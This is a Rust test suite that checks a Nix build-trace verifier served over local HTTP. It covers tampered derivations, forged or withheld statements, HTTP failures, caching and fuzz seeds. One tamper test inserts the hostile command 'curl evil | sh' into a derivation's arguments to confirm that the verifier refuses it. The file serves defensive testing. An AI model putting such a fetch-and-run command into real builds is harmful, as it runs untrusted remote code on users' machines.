//! Trace stores over real HTTP on loopback (`build_trace::source`): a synthetic closure written
//! as a trace store directory (`tests/dirserver`) and served by a real HTTP server.
//!
//! Attacks first: a server that serves a `.drv` other than its path names is refused by name,
//! through `drv/<hash>.nar` and through a narinfo; a server can withhold (a "no trace" verdict)
//! and serve other statement bytes (judged, not verified), never make a forgery verify. Then
//! failures: 500, connection refused, a garbled index and a cache without `nix-cache-info` are
//! errors naming the URL. Then the ordinary use: a closure verifies over `http://` (its `.drv`
//! graph fetched too) and over `file://`, with the same outcome on 1 and 2 threads, and a second
//! run takes the immutable files from the local cache (the server counts its requests).

mod dirserver;
mod synthetic;

use std::collections::BTreeSet;
use std::time::SystemTime;

use build_trace::evidence::{SimulatedRoot, Verifier};
use build_trace::source::{drv_set, FetchError, FetchOptions, SourceError, Traces};
use build_trace::store::StoreError;
use build_trace::verify::{ClosureVerifier, LinkCheck, Outcome, Request, VerifyError};
use dirserver::{drv_nar_file, nar_of, write_store, DirServer};
use nix_formats::signing::SecretKey;
use synthetic::{build, policy, verify_on_threads, Built};

struct Setup {
    b: Built,
    root: SimulatedRoot,
    key: SecretKey,
    dir: tempfile::TempDir,
    server: DirServer,
}

fn setup(n: usize) -> Setup {
    let root = SimulatedRoot::generate().unwrap();
    let key = SecretKey::from_seed("remote-1", [7; 32]);
    let b = build(n, &root, &key);
    let dir = tempfile::tempdir().unwrap();
    write_store(dir.path(), &b.entries, Some(&b.drvs));
    let server = DirServer::start(dir.path());
    Setup { b, root, key, dir, server }
}

fn opts(cache: Option<&std::path::Path>) -> FetchOptions {
    FetchOptions { jobs: 4, cache_dir: cache.map(Into::into), ..FetchOptions::default() }
}

fn verify(s: &Setup, traces: &Traces, threads: usize) -> Result<Outcome, VerifyError> {
    let prepared = policy(&s.root, &s.key, "builder:sim").prepare().unwrap();
    let ev = Verifier::new();
    let v = ClosureVerifier {
        policy: &prepared,
        sources: vec![traces],
        evidence: &ev,
        now: SystemTime::now(),
        threads,
    };
    v.verify(&s.b.drvs, &Request { target: s.b.target.clone(), expect: BTreeSet::new() })
}

fn chain(e: &(dyn std::error::Error + 'static)) -> String {
    build_trace::error_chain(e)
}

#[test]
fn a_drv_that_does_not_hash_to_its_path_is_refused_by_name() {
    let s = setup(8);
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    // A middle step's `.drv`, changed: it parses, but is not the derivation its path names.
    let victim = s.b.drvs.iter().map(|(p, _)| p).find(|p| p.name() == "step-3.drv").unwrap();
    let mut d = s.b.drvs.get(victim).unwrap().clone();
    d.args.push("curl evil | sh".into());
    std::fs::write(drv_nar_file(s.dir.path(), victim), nar_of(&d.to_aterm())).unwrap();
    let err = drv_set(&s.b.target, None, std::slice::from_ref(&http)).unwrap_err();
    let want_url = format!("{}/drv/{}.nar", s.server.url, victim.hash_part());
    match &err {
        SourceError::Tampered { url, drv, got } => {
            assert_eq!(url, &want_url);
            assert_eq!(drv, &victim.to_string());
            assert_ne!(got, drv);
        }
        other => panic!("not refused as tampered: {}", chain(other)),
    }
    assert!(chain(&err).contains(&want_url) && chain(&err).contains("not"), "{}", chain(&err));

    // Through a narinfo (any binary cache): the narinfo only says where the NAR is.
    std::fs::remove_file(drv_nar_file(s.dir.path(), victim)).unwrap();
    std::fs::write(s.dir.path().join("evil.nar"), nar_of(&d.to_aterm())).unwrap();
    let narinfo = |url: &str| {
        format!(
            "StorePath: {victim}\nURL: {url}\nCompression: none\nNarHash: sha256:{}\nNarSize: 1\n",
            nix_formats::base32::encode(&[0; 32])
        )
    };
    let info = s.dir.path().join(format!("{}.narinfo", victim.hash_part()));
    std::fs::write(&info, narinfo("evil.nar")).unwrap();
    match drv_set(&s.b.target, None, std::slice::from_ref(&http)).unwrap_err() {
        SourceError::Tampered { url, .. } => assert_eq!(url, format!("{}/evil.nar", s.server.url)),
        other => panic!("not refused as tampered: {}", chain(&other)),
    }
    // The honest bytes through the same narinfo are accepted.
    let honest = s.b.drvs.get(victim).unwrap().to_aterm();
    std::fs::write(s.dir.path().join("evil.nar"), nar_of(&honest)).unwrap();
    let fresh = Traces::open(&s.server.url, &opts(None)).unwrap();
    assert_eq!(drv_set(&s.b.target, None, &[fresh]).unwrap().len(), 8);
    // A narinfo pointing outside the cache is refused before anything is fetched.
    std::fs::write(&info, narinfo("http://elsewhere.invalid/x.nar")).unwrap();
    let fresh = Traces::open(&s.server.url, &opts(None)).unwrap();
    let err = drv_set(&s.b.target, None, &[fresh]).unwrap_err();
    assert!(chain(&err).contains("not a path in this cache"), "{}", chain(&err));
}

#[test]
fn a_server_can_withhold_but_not_forge() {
    let s = setup(10);
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    // Withheld: laut's index of one step answers 404.
    let step5 = &s.b.entries[5].drv_path;
    s.server.fail(&format!("traces/{}", step5.hash_part()), 404);
    match verify(&s, &http, 1).unwrap() {
        Outcome::NotVerified(b) => assert_eq!(b.check, LinkCheck::NoTrace, "{b}"),
        Outcome::Verified(_) => panic!("verified without step 5's trace"),
    }
    // Forged: other statement bytes under step 5's entry are judged, and fail.
    let s = setup(10);
    let e = &s.b.entries[5];
    let id = hex::encode(&<sha2::Sha256 as sha2::Digest>::digest(&e.statement)[..16]);
    let st = s.dir.path().join("vouch/v1/steps").join(e.drv_path.base_name()).join(id);
    let mut forged = e.parse_statement().unwrap();
    forged.outputs.values_mut().next().unwrap().nar_size += 1;
    std::fs::write(st.join("statement.json"), forged.canonical_bytes().unwrap()).unwrap();
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    match verify(&s, &http, 2).unwrap() {
        Outcome::NotVerified(b) => assert!(b.step.contains("step-5"), "{b}"),
        Outcome::Verified(_) => panic!("a forged statement verified"),
    }
}

#[test]
fn bad_or_missing_answers_are_errors_naming_the_url() {
    let s = setup(6);
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    s.server.fail("vouch/v1/steps/", 500);
    let err = verify(&s, &http, 1).unwrap_err();
    match &err {
        VerifyError::Source(StoreError::Remote(FetchError::Status { url, status, .. })) => {
            assert_eq!(*status, 500);
            assert!(url.starts_with(&format!("{}/vouch/v1/steps/", s.server.url)), "{url}");
            assert!(url.ends_with("/statement.json") || url.ends_with("/evidence.json"), "{url}");
        }
        other => panic!("{}", chain(other)),
    }
    assert!(chain(&err).contains("HTTP 500"), "{}", chain(&err));
    assert!(!chain(&err).contains("No such file"), "{}", chain(&err));

    // A garbled index.
    let s = setup(6);
    let first = &s.b.entries[0].drv_path;
    std::fs::write(s.dir.path().join("traces").join(first.hash_part()), "<html>").unwrap();
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    let err = verify(&s, &http, 1).unwrap_err();
    let want = format!("{}/traces/{}", s.server.url, first.hash_part());
    assert!(chain(&err).contains(&want) && chain(&err).contains("laut"), "{}", chain(&err));

    // Nothing listening: the URL and the cause, at open.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let url = format!("http://127.0.0.1:{port}");
    let err = Traces::open(&url, &opts(None)).unwrap_err();
    match &err {
        SourceError::Fetch(FetchError::Transport { url: u, .. }) => {
            assert_eq!(u, &format!("{url}/nix-cache-info"))
        }
        other => panic!("{}", chain(other)),
    }
    // A server that is no binary cache.
    std::fs::remove_file(s.dir.path().join("nix-cache-info")).unwrap();
    let err = Traces::open(&s.server.url, &opts(None)).unwrap_err();
    assert!(
        matches!(&err, SourceError::Fetch(FetchError::Missing { url, .. }) if url.ends_with("/nix-cache-info")),
        "{}",
        chain(&err)
    );
    // A `.drv` nobody has names where it was looked for.
    std::fs::remove_dir_all(s.dir.path().join("drv")).unwrap();
    std::fs::write(s.dir.path().join("nix-cache-info"), "StoreDir: /nix/store\n").unwrap();
    let http = Traces::open(&s.server.url, &opts(None)).unwrap();
    let err = drv_set(&s.b.target, Some(s.dir.path()), &[http]).unwrap_err();
    assert!(matches!(err, SourceError::MissingDrv { .. }), "{}", chain(&err));
    assert!(
        chain(&err).contains(&s.server.url)
            && chain(&err).contains(&s.dir.path().display().to_string())
    );
}

#[test]
fn a_closure_verifies_over_http_and_file_urls_and_the_cache_answers_the_second_run() {
    let n = 30;
    let s = setup(n);
    let cache = tempfile::tempdir().unwrap();
    let http = Traces::open(&s.server.url, &opts(Some(cache.path()))).unwrap();
    // The `.drv` graph from the server (no local store), each checked against its path.
    let drvs = drv_set(&s.b.target, None, std::slice::from_ref(&http)).unwrap();
    assert_eq!(drvs.len(), n);
    for (p, d) in s.b.drvs.iter() {
        assert_eq!(drvs.get(p), Some(d));
    }
    let req = Request { target: s.b.target.clone(), expect: BTreeSet::new() };
    let policy = policy(&s.root, &s.key, "builder:sim");
    let outcome = verify_on_threads(&drvs, &req, &policy, &http, &[1, 2]);
    match &outcome {
        Outcome::Verified(c) => assert_eq!(c.steps.len(), n),
        Outcome::NotVerified(b) => panic!("{b}"),
    }
    assert_eq!(s.server.count("drv/"), n);
    assert_eq!(
        s.server.count("vouch/v1/steps/"),
        2 * n,
        "statement + evidence, once: the second run hits the cache"
    );
    // file://DIR and the directory itself give the same outcome.
    let file = Traces::open(&format!("file://{}", s.dir.path().display()), &opts(None)).unwrap();
    assert_eq!(verify_on_threads(&s.b.drvs, &req, &policy, &file, &[1, 2]), outcome);

    // A second run with the same cache: only laut's index (which grows) is asked again.
    s.server.reset();
    let again = Traces::open(&s.server.url, &opts(Some(cache.path()))).unwrap();
    let drvs = drv_set(&s.b.target, None, std::slice::from_ref(&again)).unwrap();
    assert_eq!(verify_on_threads(&drvs, &req, &policy, &again, &[2]), outcome);
    assert_eq!(s.server.count("drv/"), 0, "{:?}", s.server.seen());
    assert_eq!(s.server.count("vouch/"), 0, "{:?}", s.server.seen());
    assert_eq!(s.server.count("traces/"), n);
    let Traces::Http(h) = &again else { unreachable!() };
    assert_eq!(h.fetcher().counts(), (n as u64 + 1, 3 * n as u64));
}

/// A step whose name holds `?` (legal in Nix store path names) is found over HTTP: the name is
/// sent as one path segment (`%3F`), not cut into a path and a query (found by review while
/// writing the `trace_source` fuzz target; before, its statement answered 404).
#[test]
fn a_step_named_with_a_question_mark_is_found_over_http() {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
    use base64::Engine;
    use build_trace::store::TraceSource;
    use sha2::{Digest, Sha256};
    let dir = tempfile::tempdir().unwrap();
    let step = nix_formats::StorePath::parse(
        "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-what?version=2.drv",
    )
    .unwrap();
    // The entry as a directory store holds it (the bytes are judged by the verifier, not here).
    let statement = b"{\"a statement\":1}";
    let digest = Sha256::digest(statement);
    let entry =
        dir.path().join("vouch/v1/steps").join(step.base_name()).join(hex::encode(&digest[..16]));
    std::fs::create_dir_all(&entry).unwrap();
    std::fs::write(entry.join("statement.json"), statement).unwrap();
    let payload =
        serde_json::json!({ "vouch": { "statement": format!("~{}", B64.encode(digest)) } });
    let jws = format!("e30.{}.c2ln", B64.encode(payload.to_string()));
    std::fs::create_dir_all(dir.path().join("traces")).unwrap();
    let index = serde_json::json!({ "signatures": [jws] }).to_string();
    std::fs::write(dir.path().join("traces").join(step.hash_part()), index).unwrap();
    std::fs::write(dir.path().join("nix-cache-info"), build_trace::store::NIX_CACHE_INFO).unwrap();
    let server = DirServer::start(dir.path());
    let http = Traces::open(&server.url, &opts(None)).unwrap();
    let entries = http.entries(&step).unwrap_or_else(|e| panic!("{}", chain(&e)));
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].statement, statement);
    assert_eq!((entries[0].evidence.as_ref(), &entries[0].jws), (None, &vec![jws]));
    assert!(entries[0].location.contains("-what%3Fversion=2.drv/"), "{}", entries[0].location);
}

/// Writes the seeds of the `trace_source` fuzz target (`fuzz/seeds/trace_source/`, see
/// docs/fuzzing.md) from a synthetic store as `write_store` lays it out: laut indexes (one
/// entry; two entries, a repeated JWS and one that is not vouch's), a `.drv`'s NAR, the narinfos
/// of a `.drv` and of an output; with the NARs of the real Nix 2.8 `.drv` files of the `aterm`
/// seeds, the real Nix 2.8 narinfos of the `narinfo` seeds, and a cache URL index link.
#[test]
#[ignore = "regenerates fuzz/seeds/trace_source"]
fn write_trace_source_seeds() {
    let seeds = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../fuzz/seeds");
    let out = seeds.join("trace_source");
    std::fs::create_dir_all(&out).unwrap();
    let write = |name: &str, bytes: &[u8]| std::fs::write(out.join(name), bytes).unwrap();
    let s = setup(3);
    let [e0, e1, e2] = [0, 1, 2].map(|i| &s.b.entries[i]);
    let index = std::fs::read(s.dir.path().join("traces").join(e2.drv_path.hash_part())).unwrap();
    write("index-one-entry.json", &index);
    let mut sigs: Vec<String> = [e0, e1].iter().flat_map(|e| e.jws.clone()).collect();
    sigs.push(sigs[0].clone());
    sigs.push("eyJhbGciOiJFZERTQSJ9.eyJpbiI6e319.c2ln".into()); // a JWS naming no statement
    write(
        "index-two-entries.json",
        serde_json::json!({ "signatures": sigs }).to_string().as_bytes(),
    );
    write("index-empty.json", br#"{"signatures":[]}"#);
    let drv = s.b.drvs.iter().map(|(p, _)| p).find(|p| p.name() == "step-2.drv").unwrap();
    write("drv-step.nar", &std::fs::read(drv_nar_file(s.dir.path(), drv)).unwrap());
    let hash = format!("sha256:{}", nix_formats::base32::encode(&[0; 32]));
    write(
        "drv.narinfo",
        format!(
            "StorePath: {drv}\nURL: drv/{}.nar\nCompression: none\nNarHash: {hash}\nNarSize: 1\n",
            drv.hash_part()
        )
        .as_bytes(),
    );
    let st = e2.parse_statement().unwrap();
    let out_path = &st.outputs.values().next().unwrap().path;
    write(
        "output.narinfo",
        format!(
            "StorePath: {out_path}\nURL: nar/x.nar\nCompression: none\nNarHash: {hash}\n\
             NarSize: 1\nReferences: \nDeriver: {}\n",
            e2.drv_path.base_name()
        )
        .as_bytes(),
    );
    for f in ["ca-top.drv", "fod-flat.drv", "ia-multi.drv"] {
        write(&format!("{f}.nar"), &nar_of(&std::fs::read(seeds.join("aterm").join(f)).unwrap()));
    }
    for f in ["ca-refs.narinfo", "ia-three-sigs.narinfo"] {
        std::fs::copy(seeds.join("narinfo").join(f), out.join(format!("nix-{f}"))).unwrap();
    }
    let digest = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"a cached file"));
    write("cache-link", format!("../sha256/{digest}").as_bytes());
}
